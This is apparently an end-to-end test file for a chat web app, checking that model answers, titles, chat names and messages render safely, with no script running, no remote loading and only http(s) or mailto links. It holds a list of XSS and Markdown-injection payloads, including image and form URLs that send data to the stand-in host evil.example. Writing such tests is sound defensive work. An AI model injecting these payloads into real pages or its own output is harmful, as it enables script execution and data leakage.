import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import type { CastMember } from '#tests/support/cast.ts';
import { answers, composer, say, untilAnswered } from './on-the-page.ts';
import { startWebHouse, type Visitor, type WebHouse } from './web-house.ts';

let house: WebHouse;
let ada: CastMember;
let visitor: Visitor;

beforeAll(async () => {
  house = await startWebHouse();
  ada = await house.invite('ada');
});
afterAll(() => house.close());
beforeEach(async () => {
  visitor = await house.visit(ada, '/');
});
afterEach(async () => expect(await house.endVisits()).toEqual([]));

const payloads = [
  '<script>window.wasRun = true</script>',
  '<img src=x onerror="window.wasRun = true">',
  '<svg/onload=window.wasRun=true>',
  '<iframe srcdoc="<script>parent.wasRun = true</script>"></iframe>',
  '<style>@import "https://evil.example/style.css"; body { background: url(https://evil.example/a) }</style>',
  '<a href="javascript:window.wasRun=true">click</a>',
  '[click](javascript:window.wasRun=true)',
  '[click](JaVaScRiPt:window.wasRun=true)',
  '[click](data:text/html,<script>window.wasRun=true</script>)',
  '[click](vbscript:x) [click](file:///etc/passwd) [click](blob:https://evil.example/1)',
  '<javascript:window.wasRun=true>',
  '![pixel](https://evil.example/pixel.png?secret=1)',
  '[![pixel](https://evil.example/badge.png)](https://evil.example/)',
  '![x][ref]\n\n[ref]: https://evil.example/ref.png',
  '![x](//evil.example/relative.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '```html\n<script>window.wasRun = true</script>\n```',
  '<form action="https://evil.example/"><button>Send</button></form>',
  '<link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'https://evil.example/unfurl',
];

test('nothing that a model writes runs, loads or leads astray, while it grows and when it is whole', async () => {
  const { page } = visitor;
  // The tests' model repeats what it is told.
  await say(page, payloads.join('\n\n'));
  await untilAnswered(page);
  const answer = answers(page).last();
  await answer.getByRole('figure').waitFor();

  expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
  expect(await answer.locator('script, img, svg image, iframe, style, form, link, meta, object, embed').count()).toBe(
    0,
  );
  const links = await answer
    .getByRole('link')
    .evaluateAll((all) => all.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
  expect(links.length).toBeGreaterThan(0);
  for (const [href, rel] of links) {
    expect(href).toMatch(/^(https?|mailto):/);
    expect(rel).toContain('noopener');
  }
  await answer.getByText('Image: pixel').first().waitFor();
});

test('titles, names and what people say are text', async () => {
  const { page } = visitor;
  const markup = '<img src=x onerror="window.wasRun=true">';
  const { body } = await ada.client.post<{ id: string }>('/api/conversations/', { title: markup });
  const chat = await ada.client.post<{ id: number }>('/api/chats/', { name: markup });
  await ada.client.post(`/api/chats/${chat.body.id}/send_message/`, { content: markup });
  await page.goto(`${house.url}/c/${body.id}`);
  await page.getByRole('heading', { name: markup }).waitFor();
  await page.goto(`${house.url}/chats/${chat.body.id}`);
  await page.getByRole('article').getByText(markup).waitFor();
  expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
});

test('code is coloured, copied as it is, and plain Markdown looks like what it means', async () => {
  const { page, context } = visitor;
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const code = 'const answer: number = 42; // why not';
  await say(page, `# Title\n\n- one\n- **two**\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n\`\`\`ts\n${code}\n\`\`\``);
  await untilAnswered(page);
  const answer = answers(page).last();
  await answer.getByRole('heading', { name: 'Title' }).waitFor();
  await answer.getByRole('table').waitFor();
  await answer.locator('pre span[style]').first().waitFor();
  const colours = await answer
    .locator('pre span[style]')
    .evaluateAll((spans) => new Set(spans.map((span) => getComputedStyle(span).color)).size);
  expect(colours).toBeGreaterThan(2);
  await answer.getByRole('button', { name: 'Copy the code' }).click();
  await answer.getByRole('button', { name: 'Copied' }).waitFor();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code);
});

test('a message of many characters can be sent, and is folded', async () => {
  const { page } = visitor;
  await composer(page).fill('word '.repeat(4_000).trim());
  await composer(page).press('Enter');
  await untilAnswered(page);
  await page.getByRole('button', { name: 'Show all of it' }).waitFor();
});
